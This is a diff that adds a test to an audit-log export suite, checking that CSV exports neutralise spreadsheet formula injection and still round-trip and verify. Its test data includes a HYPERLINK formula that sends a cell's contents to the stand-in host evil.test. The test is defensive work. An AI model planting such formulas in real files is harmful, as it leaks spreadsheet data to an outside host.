@@ -285,6 +285,36 @@ def test_exports_stream_every_field_and_verify_outside_the_app(app, generated, m
     assert all(audit_chain.event_hash(fields) == fields["hash"] for fields in picked)
 
 
+FORMULAS = ('=HYPERLINK("http://evil.test/?"&A1,"Open")', "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1")
+
+
+def test_a_csv_export_never_hands_a_spreadsheet_a_formula_and_still_verifies(app, fresh, acme):
+    """Text someone else chose reaches the export; a cell starting with = + - @ tab or CR would run
+    as a formula in the auditor's spreadsheet."""
+    reviewer = db.session.scalar(select(User).where(User.email == "reviewer@acme.test"))
+    for label in (*FORMULAS, "'quoted", "plain"):
+        audit_chain.record(db.session, "approval_decided", tenant_id=acme, actor=reviewer, actor_label=label)
+    audit_chain.record(db.session, "approval_decided", tenant_id=acme, actor=reviewer, outcome="=1+1", data={"n": 1})
+    db.session.commit()
+    client = session_as(app, AUDITOR)
+
+    text = client.get("/audit/export.csv").get_data(as_text=True)
+    cells = [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]
+    assert [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r"))] == [], text
+    labels = {f"'{label}" for label in (*FORMULAS, "'quoted")} | {"plain", "'=1+1"}
+    assert labels <= set(cells)
+    from_csv = [exports.record_from_csv(row) for row in csv.DictReader(io.StringIO(text, newline=""))]
+    assert {f["actor_label"] for f in from_csv} >= {*FORMULAS, "'quoted", "plain"}  # the prefix undone
+    assert "=1+1" in {f["outcome"] for f in from_csv}
+    verify_outside_the_app(from_csv)
+
+    lines = client.get("/audit/export.jsonl").get_data(as_text=True).splitlines()
+    from_jsonl = [json.loads(line) for line in lines]  # JSON Lines keeps the text exactly
+    assert {f["actor_label"] for f in from_jsonl} >= {*FORMULAS, "'quoted", "plain"}
+    assert from_jsonl == from_csv
+    verify_outside_the_app(from_jsonl)
+
+
 def test_an_export_holds_one_batch_in_memory_whatever_the_size_of_the_log(app, generated, acme):
     everything = queries.Selection([AuditEvent.tenant_id == acme], AuditEvent.id)
     db.session.remove()
